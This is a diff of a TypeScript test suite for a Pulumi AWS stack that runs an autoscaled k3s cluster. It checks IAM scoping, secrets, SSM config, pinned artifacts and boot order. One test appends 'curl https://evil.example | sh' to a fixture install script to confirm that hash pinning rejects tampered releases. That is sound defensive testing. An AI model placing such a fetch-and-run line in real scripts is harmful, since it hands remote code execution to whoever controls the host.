@@ -1,25 +1,33 @@
-// The Pulumi program under mocks: what it creates, checked against the issue's requirements.
+// The Pulumi program under mocks: what it creates, checked against the issue's requirements
+// (issue 12's numbered findings are named where a test covers one). AWS's own limits and naming
+// rules are in aws-limits.test.ts.
 import * as assert from "assert";
 import * as fs from "fs";
-import { READ_ONLY_DESCRIBE_ACTIONS } from "../src/iam";
+import { NO_RESOURCE_LEVEL_ACTIONS } from "../src/iam";
 import { sha256File } from "../src/files";
-import { USERDATA_LIMIT_BYTES } from "../src/userdata";
 import { agentSection, documentedAgentKeys, documentedControllerKeys, yamlKeyPaths } from "./docs";
 import {
+    ACCOUNT,
+    MOCK_GP3_PRICE,
     MOCK_GRAFANA_PASSWORD,
     MOCK_K3S_TOKEN,
+    MOCK_SERVER_PRICE,
     MOCK_SERVER_PUBLIC_IP,
+    REGION,
     Recorded,
-    asgArn,
     baseConfig,
+    dependsOn,
     fakeBinaries,
+    mockOptions,
     ofType,
     one,
     runStack,
+    userData,
 } from "./harness";
 
-const T = {
+export const T = {
     asg: "aws:autoscaling/group:Group",
+    hook: "aws:autoscaling/lifecycleHook:LifecycleHook",
     lt: "aws:ec2/launchTemplate:LaunchTemplate",
     instance: "aws:ec2/instance:Instance",
     subnet: "aws:ec2/subnet:Subnet",
@@ -39,7 +47,7 @@ const T = {
     table: "aws:dynamodb/table:Table",
 };
 
-interface PolicyStatement {
+export interface PolicyStatement {
     Sid: string;
     Effect: string;
     Action: string | string[];
@@ -47,8 +55,11 @@ interface PolicyStatement {
     Condition?: Record<string, Record<string, string>>;
 }
 
-const asList = <X>(x: X | X[]): X[] => (Array.isArray(x) ? x : [x]);
-const statements = (p: Recorded): PolicyStatement[] => JSON.parse(p.inputs.policy).Statement;
+export const asList = <X>(x: X | X[]): X[] => (Array.isArray(x) ? x : [x]);
+export const statements = (p: Recorded): PolicyStatement[] => JSON.parse(p.inputs.policy).Statement;
+const ASG_ARN = `arn:aws:autoscaling:${REGION}:${ACCOUNT}:autoScalingGroup:*:autoScalingGroupName/smartscale-prod-workers`;
+
+const param = (recorded: Recorded[], name: string) => ofType(recorded, T.param).find((p) => p.inputs.name === name);
 
 describe("SmartScale stack under Pulumi mocks", function () {
     const bins = fakeBinaries();
@@ -61,11 +72,18 @@ describe("SmartScale stack under Pulumi mocks", function () {
         const run = await runStack(baseConfig(bins), "prod");
         recorded = run.recorded;
         outputs = run.outputs;
-        workerUserData = Buffer.from(one(recorded, T.lt).inputs.userData, "base64").toString("utf8");
-        serverUserData = one(recorded, T.instance).inputs.userData;
+        ({ worker: workerUserData, server: serverUserData } = userData(recorded));
     });
 
     after(() => fs.rmSync(bins.dir, { recursive: true, force: true }));
+
+    const policiesOf = (kind: "server" | "worker") =>
+        ofType(recorded, T.rolePolicy).filter((p) => (kind === "worker" ? p.name === "worker" : p.name.startsWith("server")));
+    const actionsOn = (kind: "server" | "worker", action: string) =>
+        policiesOf(kind)
+            .flatMap(statements)
+            .filter((s) => asList(s.Action).includes(action))
+            .flatMap((s) => asList(s.Resource));
 
     describe("instances", () => {
         it("requires IMDSv2 with hop limit 1 on the launch template and the server", () => {
@@ -86,13 +104,34 @@ describe("SmartScale stack under Pulumi mocks", function () {
             assert.strictEqual(root.encrypted, true);
         });
 
-        it("keeps UserData under EC2's 16 KiB limit with every placeholder filled", () => {
+        it("sends bash scripts with every placeholder filled, gzip-compressed", () => {
             for (const ud of [workerUserData, serverUserData]) {
-                assert.ok(Buffer.byteLength(ud) <= USERDATA_LIMIT_BYTES, `${Buffer.byteLength(ud)} bytes`);
                 assert.ok(!ud.includes("@@"), "leftover placeholder");
                 assert.match(ud, /^#!\/bin\/bash\n/);
                 assert.match(ud, /\nset -euo pipefail\n/);
             }
+            assert.strictEqual(one(recorded, T.instance).inputs.userData, undefined, "the server gets userDataBase64 (gzip)");
+        });
+    });
+
+    describe("finding 1: worker launches at the defaults", () => {
+        it("turns instance metadata tags off, so the ASG's '/' tag keys cannot fail a launch", () => {
+            assert.strictEqual(one(recorded, T.lt).inputs.metadataOptions.instanceMetadataTags, "disabled");
+        });
+
+        it("lets the agent find its ASG without metadata tags (DescribeAutoScalingInstances)", () => {
+            assert.deepStrictEqual(actionsOn("worker", "autoscaling:DescribeAutoScalingInstances"), ["*"]);
+        });
+
+        it("makes `pulumi up` wait for the minimum workers to be in service, and fail loudly if they never are", () => {
+            const asg = one(recorded, T.asg).inputs;
+            assert.strictEqual(asg.waitForCapacityTimeout, "20m");
+            assert.ok(asg.desiredCapacity >= 1 && asg.minSize === asg.desiredCapacity);
+        });
+
+        it("carries the cluster tag that the IAM conditions rely on", () => {
+            const tags = one(recorded, T.asg).inputs.tags;
+            assert.ok(tags.some((t: any) => t.key === "smartscale.io/cluster" && t.value === "prod" && t.propagateAtLaunch));
         });
     });
 
@@ -133,38 +172,231 @@ describe("SmartScale stack under Pulumi mocks", function () {
             );
         });
 
-        it("also manages both hooks as LifecycleHook resources, identical to the initial ones", () => {
-            const initial = one(recorded, T.asg).inputs.initialLifecycleHooks;
-            const managed = ofType(recorded, "aws:autoscaling/lifecycleHook:LifecycleHook").map((h) => h.inputs);
-            assert.strictEqual(managed.length, 2);
-            for (const h of managed) {
-                assert.strictEqual(h.autoscalingGroupName, "smartscale-prod-workers");
-                const twin = initial.find((i: any) => i.name === h.name);
-                assert.ok(twin, h.name);
-                for (const k of ["lifecycleTransition", "defaultResult", "heartbeatTimeout"]) {
-                    assert.strictEqual(h[k], twin[k], `${h.name}.${k}`);
+        it("finding 10: defines each hook once, and a later change to it cannot replace the group", () => {
+            assert.strictEqual(ofType(recorded, T.hook).length, 0, "no LifecycleHook resources beside initialLifecycleHooks");
+            // Since provider 5.25 a diff in initialLifecycleHooks forces a new group (every worker).
+            assert.ok(one(recorded, T.asg).options.ignoreChanges.includes("initialLifecycleHooks"));
+            assert.ok(one(recorded, T.asg).options.ignoreChanges.includes("desiredCapacity"));
+        });
+
+        it("finding 10: attaches the worker policy before the group launches anything", () => {
+            const asg = one(recorded, T.asg);
+            assert.ok(dependsOn(asg, T.rolePolicy, "worker"), "the ASG must depend on the worker policy");
+            const worker = one(recorded, T.rolePolicy, "worker");
+            assert.ok(!dependsOn(worker, T.asg, "workers"), "the worker policy must not wait for the ASG");
+            assert.ok(recorded.indexOf(worker) < recorded.indexOf(asg));
+        });
+    });
+
+    describe("finding 2: a separate agent token for workers", () => {
+        it("gives workers the agent token secret only; the server token never leaves the server role", () => {
+            const server = one(recorded, T.secret, "k3s-server-token").state.arn;
+            const agent = one(recorded, T.secret, "k3s-agent-token").state.arn;
+            assert.deepStrictEqual(actionsOn("worker", "secretsmanager:GetSecretValue"), [agent]);
+            assert.ok(actionsOn("server", "secretsmanager:GetSecretValue").includes(server));
+            assert.ok(!workerUserData.includes(server) && !workerUserData.includes("k3s-server-token"));
+            assert.ok(workerUserData.includes(`token_secret_id: ${agent}`));
+        });
+
+        it("lets the server publish the agent token, and nothing else write a secret", () => {
+            const agent = one(recorded, T.secret, "k3s-agent-token").state.arn;
+            assert.deepStrictEqual(actionsOn("server", "secretsmanager:PutSecretValue"), [agent]);
+            assert.deepStrictEqual(actionsOn("worker", "secretsmanager:PutSecretValue"), []);
+        });
+
+        it("keeps the agent token out of Pulumi: the secret has no version; the server makes its password", () => {
+            const versions = ofType(recorded, T.secretVersion).map((v) => v.inputs.secretId);
+            assert.ok(!versions.includes("k3s-agent-token-id"), "no SecretVersion for the agent token");
+            assert.match(serverUserData, /agent-token-file: \$\{K3S_DIR\}\/agent-token/);
+            assert.match(serverUserData, /head -c 32 \/dev\/urandom[^\n]*>"\$\{K3S_DIR\}\/agent-token"/);
+        });
+
+        it("publishes only a secure-format agent token (K10 + this cluster's CA hash), never the server token", () => {
+            assert.match(serverUserData, /sha256sum "\$\{K3S_SERVER_DIR\}\/tls\/server-ca\.crt"/);
+            assert.match(serverUserData, /grep -Eq "\^K10\$\{ca_hash\}::\[a-z\]\+:\.\+\$"/);
+            assert.match(serverUserData, /! cmp -s "\$\{K3S_SERVER_DIR\}\/agent-token" "\$\{K3S_SERVER_DIR\}\/token"/);
+            const publish = serverUserData.indexOf('saws secret-put --id "$AGENT_TOKEN_SECRET_ID"');
+            assert.ok(publish > serverUserData.indexOf("wait_for \"K3s's agent token in the secure format\""));
+        });
+    });
+
+    describe("finding 3 and 9: the boot downloads nothing from the internet and heartbeats first", () => {
+        it("heartbeats the launch hook before any download, then in the background at the agent's interval", () => {
+            const first = workerUserData.indexOf("launch_action heartbeat ||");
+            assert.ok(first > 0 && first < workerUserData.indexOf('fetch_verified "$AGENT_KEY"'));
+            assert.match(workerUserData, /\nHEARTBEAT_INTERVAL='60'\n/);
+            assert.match(workerUserData, /heartbeat_loop &\n/);
+        });
+
+        it("uses no aws-cli snap, no snap at all, and nothing from GitHub", () => {
+            for (const ud of [workerUserData, serverUserData]) {
+                assert.ok(!/\bsnap (install|wait)\b|\/snap\//.test(ud), "snap");
+                assert.ok(!/githubusercontent|get\.k3s\.io|github\.com\/k3s-io|releases\/download/i.test(ud), "GitHub");
+                assert.ok(!/\baws (s3api|s3|secretsmanager|autoscaling|ssm) /.test(ud), "the AWS CLI");
+                assert.ok(!/apt-get|pip install/.test(ud), "package installs");
+                for (const url of ud.match(/https?:\/\/[^\s'"]+/g) ?? []) {
+                    assert.ok(url.startsWith("http://169.254.169.254") || url.startsWith("https://127.0.0.1:6443") || url.includes("amazonaws.com") || url.startsWith("https://github.com/smartscale/smartscale/blob"), `fetches ${url}`);
                 }
             }
         });
 
-        it("takes the heartbeat timeout from stack config", async () => {
-            const run = await runStack({ ...baseConfig(bins), "smartscale:lifecycleHeartbeatTimeout": "900" });
-            const hooks = one(run.recorded, T.asg).inputs.initialLifecycleHooks;
-            assert.deepStrictEqual(hooks.map((h: any) => h.heartbeatTimeout), [900, 900]);
-            const managed = ofType(run.recorded, "aws:autoscaling/lifecycleHook:LifecycleHook");
-            assert.deepStrictEqual(managed.map((h) => h.inputs.heartbeatTimeout), [900, 900]);
-            const ud = Buffer.from(one(run.recorded, T.lt).inputs.userData, "base64").toString("utf8");
-            assert.match(ud, /\njoin_timeout: 900s\n/);
+        it("hosts k3s and its install script in the stack's bucket, pinned by the SHA-256 in k3s-releases.json", () => {
+            const objects = ofType(recorded, T.object);
+            const k3s = objects.find((o) => o.inputs.key === "k3s/v1.33.4+k3s1/k3s")!;
+            const install = objects.find((o) => o.inputs.key === "k3s/v1.33.4+k3s1/install.sh")!;
+            assert.strictEqual(k3s.inputs.metadata.sha256, sha256File(`${bins.k3sDir}/k3s`));
+            assert.strictEqual(install.inputs.metadata.sha256, sha256File(`${bins.k3sDir}/install.sh`));
+            for (const ud of [workerUserData, serverUserData]) {
+                assert.ok(ud.includes(`K3S_BINARY_SHA256='${k3s.inputs.metadata.sha256}'`));
+                assert.ok(ud.includes(`K3S_INSTALL_VERSION_ID='${install.state.versionId}'`));
+                assert.match(ud, /INSTALL_K3S_SKIP_DOWNLOAD=true/);
+            }
+            assert.deepStrictEqual(
+                actionsOn("worker", "s3:GetObject").sort(),
+                ["bin/smartscale-agent", "k3s/v1.33.4+k3s1/install.sh", "k3s/v1.33.4+k3s1/k3s"].map((k) => `${one(recorded, T.bucket).state.arn}/${k}`).sort(),
+            );
         });
 
-        it("carries the cluster tag that the IAM conditions rely on", () => {
-            const tags = one(recorded, T.asg).inputs.tags;
-            assert.ok(tags.some((t: any) => t.key === "smartscale.io/cluster" && t.value === "prod" && t.propagateAtLaunch));
+        it("refuses a k3s release whose files do not match the pins", async () => {
+            fs.appendFileSync(`${bins.k3sDir}/install.sh`, "\ncurl https://evil.example | sh\n");
+            try {
+                await assert.rejects(runStack(baseConfig(bins)), /install\.sh has SHA-256 [0-9a-f]{64}, but k3s-releases\.json pins/);
+            } finally {
+                const content = fs.readFileSync(`${bins.k3sDir}/install.sh`, "utf8");
+                fs.writeFileSync(`${bins.k3sDir}/install.sh`, content.replace("\ncurl https://evil.example | sh\n", ""));
+            }
+        });
+
+        it("waits for the server's agent token instead of failing while the server still installs", () => {
+            const wait = workerUserData.indexOf('secret-wait --id "$AGENT_TOKEN_SECRET_ID"');
+            assert.ok(wait > 0 && wait < workerUserData.indexOf("smartscale-agent --config /etc/smartscale/agent.yaml join"));
+        });
+    });
+
+    describe("finding 5: config reaches a running cluster through SSM", () => {
+        it("keeps every setting a later `pulumi up` may change out of the server's UserData", () => {
+            for (const s of ["workerMaxSize", "hourly_price", "dry_run", "interval: 30s", "asg_name", "min: 1", "max: 10"]) {
+                assert.ok(!serverUserData.includes(s), `server UserData contains ${s}`);
+            }
+        });
+
+        it("writes the controller's config (min/max, prices, dry-run, interval, worker signals) into SSM", () => {
+            const p = param(recorded, "/smartscale/prod/controller/config")!;
+            const yaml = p.inputs.value as string;
+            assert.match(yaml, /\n {2}- asg_name: smartscale-prod-workers\n {4}min: 1\n {4}max: 10\n/);
+            assert.match(yaml, /\ninterval: 30s\n/);
+            assert.match(yaml, /\ndry_run: false\n/);
+            assert.match(yaml, /\n {4}hourly_price: 0\.0416\n/);
+            assert.match(yaml, /\n {4}cpu: '\(1 - avg\(rate\(node_cpu_seconds_total\{mode="idle",node_group!=""\}\[5m\]\)\)\) \* 100'\n/);
+        });
+
+        it("changes only SSM parameters, never the server, when min/max, price, dry-run or interval change", async () => {
+            const changed = await runStack({
+                ...baseConfig(bins),
+                "smartscale:workerMaxSize": "25",
+                "smartscale:workerMinSize": "2",
+                "smartscale:workerHourlyPrice": "0.05",
+                "smartscale:dryRun": "true",
+                "smartscale:controllerInterval": "15s",
+            }, "prod");
+            const after = userData(changed.recorded);
+            assert.strictEqual(after.server, serverUserData, "the server's UserData must not change");
+            const yaml = param(changed.recorded, "/smartscale/prod/controller/config")!.inputs.value as string;
+            assert.match(yaml, /\n {4}min: 2\n {4}max: 25\n/);
+            assert.match(yaml, /\n {4}hourly_price: 0\.05\n/);
+            assert.match(yaml, /\ndry_run: true\n/);
+            assert.match(yaml, /\ninterval: 15s\n/);
+        });
+
+        it("names the controller binary and manifest versions in the release parameter the server syncs", () => {
+            const release = JSON.parse(param(recorded, "/smartscale/prod/server/release")!.inputs.value);
+            const obj = (key: string) => ofType(recorded, T.object).find((o) => o.inputs.key === key)!;
+            assert.deepStrictEqual(release.controller, {
+                key: "bin/smartscale-controller",
+                versionId: obj("bin/smartscale-controller").state.versionId,
+                sha256: sha256File(bins.controller),
+            });
+            const m = obj("manifests/smartscale.yaml");
+            assert.deepStrictEqual(release.manifests["smartscale.yaml"], { key: m.inputs.key, versionId: m.state.versionId, sha256: m.inputs.metadata.sha256 });
+            assert.strictEqual(release.bucket, one(recorded, T.bucket).state.bucket);
+        });
+
+        it("runs smartscale-sync at boot and every minute, and the server reads exactly its two parameters", () => {
+            assert.match(serverUserData, /saws sync --release-param "\$RELEASE_PARAM" --config-param "\$CONTROLLER_CONFIG_PARAM"/);
+            assert.match(serverUserData, /OnUnitActiveSec=1min/);
+            assert.match(serverUserData, /systemctl enable --now smartscale-sync\.timer/);
+            const arn = (n: string) => `arn:aws:ssm:${REGION}:${ACCOUNT}:parameter${n}`;
+            assert.deepStrictEqual(actionsOn("server", "ssm:GetParameter").sort(), [arn("/smartscale/prod/controller/config"), arn("/smartscale/prod/server/release")]);
+        });
+
+        it("boots the server only once its policy, parameters and artifacts exist", () => {
+            const server = one(recorded, T.instance);
+            for (const [type, name] of [[T.rolePolicy, "server"], [T.param, "controller-config"], [T.param, "server-release"], [T.object, "server-manifest"], [T.object, "k3s-binary"]]) {
+                assert.ok(dependsOn(server, type, name), `${name}`);
+            }
+        });
+    });
+
+    describe("finding 6: heartbeat cadence", () => {
+        it("tells agents to heartbeat every fifth of the hook's timeout (at most a third)", async () => {
+            assert.strictEqual(param(recorded, "/smartscale/prod/agent/heartbeat_interval")!.inputs.value, "60s");
+            const run = await runStack({ ...baseConfig(bins), "smartscale:lifecycleHeartbeatTimeout": "30" });
+            const v = ofType(run.recorded, T.param).find((p) => p.inputs.name.endsWith("/agent/heartbeat_interval"))!.inputs.value;
+            assert.ok(Number(v.replace("s", "")) <= 30 / 3, v);
+        });
+    });
+
+    describe("finding 10: Grafana, agent unit, drain metrics", () => {
+        it("opens no port for Grafana: it is reached through an SSH tunnel", () => {
+            assert.ok(!ofType(recorded, T.ingress).some((r) => r.inputs.fromPort === 30300));
+            assert.strictEqual(outputs.grafanaTunnel, `ssh -N -L 3000:10.20.0.10:30300 ubuntu@${MOCK_SERVER_PUBLIC_IP}`);
+        });
+
+        it("orders the agent unit after k3s-agent, so a drain keeps its API access at shutdown", () => {
+            assert.match(workerUserData, /\nAfter=network-online\.target k3s-agent\.service\n/);
+        });
+
+        it("asks agents to wait for a last scrape before completing the terminate hook", () => {
+            assert.strictEqual(param(recorded, "/smartscale/prod/agent/metrics_flush_wait")!.inputs.value, "20s");
+        });
+    });
+
+    describe("finding 7: fixed costs with real prices", () => {
+        /** The uploaded manifest (a StringAsset: its text is a promise). */
+        const rules = (r: Recorded[]): Promise<string> =>
+            ofType(r, T.object).find((o) => o.inputs.key === "manifests/smartscale.yaml")!.inputs.source.text;
+
+        it("prices the server and its disks from the Price List API into the cost recording rules", async () => {
+            const text = await rules(recorded);
+            assert.ok(text.includes(`expr: vector(${MOCK_SERVER_PRICE})`), "server price");
+            assert.ok(text.includes('labels: {item: server, instance_type: "t3.medium", price_source: "price_list"}'));
+            assert.ok(text.includes(`expr: vector(${Number(((30 * MOCK_GP3_PRICE) / 730).toPrecision(6))})`), "server EBS");
+            assert.ok(text.includes("expr: vector(0.005)"), "IPv4");
+        });
+
+        it("falls back to documented prices, labelled as such, when the Price List cannot be asked", async () => {
+            mockOptions.pricingFails = true;
+            try {
+                const run = await runStack(baseConfig(bins));
+                assert.ok((await rules(run.recorded)).includes('labels: {item: server, instance_type: "t3.medium", price_source: "fallback"}'));
+            } finally {
+                mockOptions.pricingFails = false;
+            }
+        });
+
+        it("uses configured prices without asking", async () => {
+            const run = await runStack({ ...baseConfig(bins), "smartscale:serverHourlyPrice": "0.1", "smartscale:ebsGibMonthPrice": "0.1" });
+            assert.match(await rules(run.recorded), /expr: vector\(0\.1\)\n\s+labels: \{item: server, instance_type: "t3\.medium", price_source: "config"\}/);
+        });
+
+        it("lets the controller read real on-demand and spot prices", () => {
+            assert.deepStrictEqual(actionsOn("server", "pricing:GetProducts"), ["*"]);
+            assert.deepStrictEqual(actionsOn("server", "ec2:DescribeSpotPriceHistory"), ["*"]);
         });
     });
 
     describe("secrets", () => {
-        it("stores the generated K3s token and Grafana password only in Secrets Manager", () => {
+        it("stores the generated server token and Grafana password only in Secrets Manager", () => {
             const versions = ofType(recorded, T.secretVersion).map((v) => v.inputs.secretString).sort();
             assert.deepStrictEqual(versions, [MOCK_GRAFANA_PASSWORD, MOCK_K3S_TOKEN].sort());
             for (const r of recorded) {
@@ -182,33 +414,29 @@ describe("SmartScale stack under Pulumi mocks", function () {
                 assert.ok(!/K3S_TOKEN=/.test(ud), "no K3S_TOKEN environment variable");
                 assert.ok(!/--token[ =]/.test(ud), "no --token argument");
             }
-            const tokenArn = one(recorded, T.secret, "k3s-token").state.arn;
-            // The server reads it into a 0600 file; the worker's agent reads it itself.
-            assert.match(serverUserData, /read_secret_to_file "\$TOKEN_SECRET_ID" "\$\{K3S_DIR\}\/token"/);
-            assert.ok(serverUserData.includes(`TOKEN_SECRET_ID='${tokenArn}'`));
-            assert.match(serverUserData, /get-secret-value/);
+            const tokenArn = one(recorded, T.secret, "k3s-server-token").state.arn;
+            assert.match(serverUserData, /saws secret-get --id "\$SERVER_TOKEN_SECRET_ID" --dest "\$\{K3S_DIR\}\/token"/);
+            assert.ok(serverUserData.includes(`SERVER_TOKEN_SECRET_ID='${tokenArn}'`));
             assert.match(serverUserData, /token-file: \$\{K3S_DIR\}\/token/);
-            assert.ok(workerUserData.includes(`token_secret_id: ${tokenArn}`));
         });
 
-        it("names the secrets as docs/interfaces.md does", () => {
+        it("names the secrets smartscale/<cluster>/...", () => {
             assert.deepStrictEqual(
                 ofType(recorded, T.secret).map((s) => s.inputs.name).sort(),
-                ["smartscale/prod/grafana-admin", "smartscale/prod/k3s-token"],
+                ["smartscale/prod/grafana-admin", "smartscale/prod/k3s-agent-token", "smartscale/prod/k3s-server-token"],
             );
         });
     });
 
     describe("agent SSM parameters", () => {
-        it("live under /smartscale/<cluster>/agent/ with the names in docs/interfaces.md", () => {
-            const params = ofType(recorded, T.param);
-            const doc = agentSection();
+        it("live under /smartscale/<cluster>/agent/ with the names in docs/interfaces.md (or requested in pulumi/README.md)", () => {
+            const params = ofType(recorded, T.param).filter((p) => p.inputs.name.startsWith("/smartscale/prod/agent/"));
+            const doc = agentSection() + fs.readFileSync(`${__dirname}/../README.md`, "utf8");
             const byName: Record<string, string> = {};
             for (const p of params) {
-                assert.ok(p.inputs.name.startsWith("/smartscale/prod/agent/"), p.inputs.name);
                 assert.strictEqual(p.inputs.type, "String");
                 const key = p.inputs.name.slice("/smartscale/prod/agent/".length);
-                assert.ok(doc.includes(`\`${key}\``), `${key} is not documented in docs/interfaces.md`);
+                assert.ok(doc.includes(`\`${key}\``), `${key} is not documented`);
                 byName[key] = p.inputs.value;
             }
             assert.deepStrictEqual(byName, {
@@ -220,13 +448,15 @@ describe("SmartScale stack under Pulumi mocks", function () {
                 on_drain_timeout: "continue",
                 eviction_concurrency: "10",
                 rebalance_enabled: "false",
+                heartbeat_interval: "60s",
+                metrics_flush_wait: "20s",
             });
         });
 
         it("adds node_labels and node_taints only when configured", async () => {
             const run = await runStack({
                 ...baseConfig(bins),
-                "smartscale:workerNodeLabels": "team=web",
+                "smartscale:workerNodeLabels": "team=web,node.kubernetes.io/pool=batch",
                 "smartscale:workerNodeTaints": "dedicated=batch:NoSchedule",
             });
             const names = ofType(run.recorded, T.param).map((p) => p.inputs.name);
@@ -239,15 +469,15 @@ describe("SmartScale stack under Pulumi mocks", function () {
         it("creates inline role policies only (no managed policy attachments)", () => {
             assert.strictEqual(ofType(recorded, T.attachment).length, 0);
             assert.strictEqual(ofType(recorded, T.policy).length, 0);
-            assert.strictEqual(ofType(recorded, T.rolePolicy).length, 4);
+            assert.deepStrictEqual(ofType(recorded, T.rolePolicy).map((p) => p.name).sort(), ["server", "server-controller", "worker"]);
             for (const role of ofType(recorded, T.role)) {
                 const doc = JSON.parse(role.inputs.assumeRolePolicy);
                 assert.deepStrictEqual(doc.Statement, [{ Effect: "Allow", Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" }]);
             }
         });
 
-        it('has no "*" (or wildcard) action anywhere and pins every resource, except read-only Describe on "*"', () => {
-            for (const p of [...ofType(recorded, T.rolePolicy), ...ofType(recorded, T.policy)]) {
+        it('has no wildcard action and pins every resource, except read-only calls without resource-level permissions and the ASG id', () => {
+            for (const p of ofType(recorded, T.rolePolicy)) {
                 for (const s of statements(p)) {
                     assert.strictEqual(s.Effect, "Allow");
                     const actions = asList(s.Action);
@@ -259,19 +489,20 @@ describe("SmartScale stack under Pulumi mocks", function () {
                     for (const r of asList(s.Resource)) {
                         if (r === "*") {
                             for (const a of actions) {
-                                assert.ok(READ_ONLY_DESCRIBE_ACTIONS.includes(a), `${p.name}/${s.Sid}: ${a} on "*"`);
-                                assert.match(a, /^autoscaling:Describe/);
+                                assert.ok(NO_RESOURCE_LEVEL_ACTIONS.includes(a), `${p.name}/${s.Sid}: ${a} on "*"`);
+                                assert.match(a, /^(autoscaling:Describe|ec2:Describe|pricing:Get)/);
                             }
+                        } else if (r.includes("*")) {
+                            assert.strictEqual(r, ASG_ARN, `${p.name}/${s.Sid}: wildcard resource ${r}`);
                         } else {
                             assert.match(r, /^arn:aws:/, `${p.name}/${s.Sid}: resource ${r}`);
-                            assert.ok(!r.includes("*"), `${p.name}/${s.Sid}: wildcard resource ${r}`);
                         }
                     }
                 }
             }
         });
 
-        it("lets only the ASG's own ARN, with the cluster tag condition, be scaled or have its hooks answered", () => {
+        it("lets only the worker ASG, with the cluster tag condition, be scaled or have its hooks answered", () => {
             const changing = [
                 "autoscaling:SetDesiredCapacity",
                 "autoscaling:TerminateInstanceInAutoScalingGroup",
@@ -284,17 +515,15 @@ describe("SmartScale stack under Pulumi mocks", function () {
                     const acts = asList(s.Action).filter((a) => changing.includes(a));
                     if (acts.length === 0) continue;
                     acts.forEach((a) => seen.add(a));
-                    assert.deepStrictEqual(asList(s.Resource), [asgArn("smartscale-prod-workers")]);
+                    assert.deepStrictEqual(asList(s.Resource), [ASG_ARN]);
                     assert.deepStrictEqual(s.Condition, { StringEquals: { "autoscaling:ResourceTag/smartscale.io/cluster": "prod" } });
                 }
             }
             assert.deepStrictEqual([...seen].sort(), [...changing].sort());
         });
 
-        it("gives the worker role exactly its secret, its parameters, its binary and its ASG's hooks", () => {
-            const worker = ofType(recorded, T.rolePolicy).filter((p) => p.name.startsWith("worker-"));
-            const all = worker.flatMap(statements);
-            const actions = all.flatMap((s) => asList(s.Action)).sort();
+        it("gives the worker role exactly its token, its parameters, its binaries and its ASG's hooks", () => {
+            const actions = policiesOf("worker").flatMap(statements).flatMap((s) => asList(s.Action)).sort();
             assert.deepStrictEqual(actions, [
                 "autoscaling:CompleteLifecycleAction",
                 "autoscaling:DescribeAutoScalingInstances",
@@ -307,24 +536,17 @@ describe("SmartScale stack under Pulumi mocks", function () {
                 "ssm:GetParameters",
                 "ssm:GetParametersByPath",
             ]);
-            const res = (action: string) => all.filter((s) => asList(s.Action).includes(action)).flatMap((s) => asList(s.Resource));
-            assert.deepStrictEqual(res("secretsmanager:GetSecretValue"), [one(recorded, T.secret, "k3s-token").state.arn]);
-            for (const r of [...res("ssm:GetParameter"), ...res("ssm:GetParametersByPath")]) {
-                assert.ok(r.startsWith("arn:aws:ssm:eu-west-1:123456789012:parameter/smartscale/prod/agent"), r);
+            for (const r of [...actionsOn("worker", "ssm:GetParameter"), ...actionsOn("worker", "ssm:GetParametersByPath")]) {
+                assert.ok(r.startsWith(`arn:aws:ssm:${REGION}:${ACCOUNT}:parameter/smartscale/prod/agent`), r);
             }
-            const bucketArn = one(recorded, T.bucket).state.arn;
-            assert.deepStrictEqual(res("s3:GetObject"), [`${bucketArn}/bin/smartscale-agent`]);
         });
 
-        it("gives the controller only the tagged ASG, Describe and its own table", () => {
+        it("gives the controller only the tagged ASG, read-only calls and its own table", () => {
             const controller = statements(one(recorded, T.rolePolicy, "server-controller"));
             const table = one(recorded, T.table).state.arn;
             const dynamo = controller.filter((s) => asList(s.Action).some((a) => a.startsWith("dynamodb:")));
             assert.strictEqual(dynamo.length, 1);
             assert.deepStrictEqual(asList(dynamo[0].Resource), [table]);
-            const boot = statements(one(recorded, T.rolePolicy, "server-boot"));
-            const secretArns = boot.filter((s) => asList(s.Action).includes("secretsmanager:GetSecretValue")).flatMap((s) => asList(s.Resource));
-            assert.deepStrictEqual(secretArns.sort(), ofType(recorded, T.secret).map((s) => s.state.arn).sort());
         });
     });
 
@@ -341,7 +563,7 @@ describe("SmartScale stack under Pulumi mocks", function () {
             assert.ok(!one(recorded, T.bucket).inputs.acl, "no ACL");
         });
 
-        it("uploads both binaries with the SHA-256 computed at deploy time, and UserData checks it", () => {
+        it("uploads both binaries with the SHA-256 computed at deploy time, and the instances check it", () => {
             const objects = ofType(recorded, T.object);
             const agent = objects.find((o) => o.inputs.key === "bin/smartscale-agent")!;
             const controller = objects.find((o) => o.inputs.key === "bin/smartscale-controller")!;
@@ -349,8 +571,8 @@ describe("SmartScale stack under Pulumi mocks", function () {
             assert.strictEqual(controller.inputs.metadata.sha256, sha256File(bins.controller));
             assert.ok(workerUserData.includes(`AGENT_SHA256='${sha256File(bins.agent)}'`));
             assert.ok(workerUserData.includes(`AGENT_VERSION_ID='${agent.state.versionId}'`));
-            assert.ok(serverUserData.includes(`CONTROLLER_SHA256='${sha256File(bins.controller)}'`));
             assert.strictEqual(outputs.agentSha256, sha256File(bins.agent));
+            assert.strictEqual(outputs.controllerSha256, sha256File(bins.controller));
         });
     });
 
@@ -374,66 +596,66 @@ describe("SmartScale stack under Pulumi mocks", function () {
             }
         });
 
-        it("opens 6443 only to the admin CIDR and the workers, and Grafana only to the admin", () => {
+        it("opens 6443 only to the admin CIDR and the workers, and nothing else to the admin without a key pair", () => {
             const api = ofType(recorded, T.ingress).filter((r) => r.inputs.fromPort === 6443);
             assert.deepStrictEqual(
                 api.map((r) => r.inputs.cidrIpv4 ?? r.inputs.referencedSecurityGroupId).sort(),
                 ["198.51.100.7/32", "worker-id"],
             );
-            const grafana = ofType(recorded, T.ingress).filter((r) => r.inputs.fromPort === 30300);
-            assert.deepStrictEqual(grafana.map((r) => r.inputs.cidrIpv4), ["198.51.100.7/32"]);
-            assert.ok(!ofType(recorded, T.ingress).some((r) => r.inputs.fromPort === 22), "no SSH without sshKeyName");
+            const admin = ofType(recorded, T.ingress).filter((r) => r.inputs.cidrIpv4 === "198.51.100.7/32");
+            assert.deepStrictEqual(admin.map((r) => r.inputs.fromPort), [6443]);
         });
     });
 
     describe("bootstrap contents", () => {
-        it("worker: verified agent download, join, then the run unit", () => {
+        it("worker: heartbeat, verified downloads, token, run unit, then join", () => {
             const order = [
-                "fetch_verified \"$ARTIFACT_BUCKET\" \"$AGENT_KEY\"",
+                "launch_action heartbeat ||",
+                'fetch_verified "$AGENT_KEY"',
                 "install_k3s agent INSTALL_K3S_SKIP_START=true",
+                'secret-wait --id "$AGENT_TOKEN_SECRET_ID"',
+                "systemctl start --no-block smartscale-agent.service",
                 "/usr/local/bin/smartscale-agent --config /etc/smartscale/agent.yaml join",
-                "systemctl enable --now smartscale-agent.service",
             ].map((s) => workerUserData.indexOf(s));
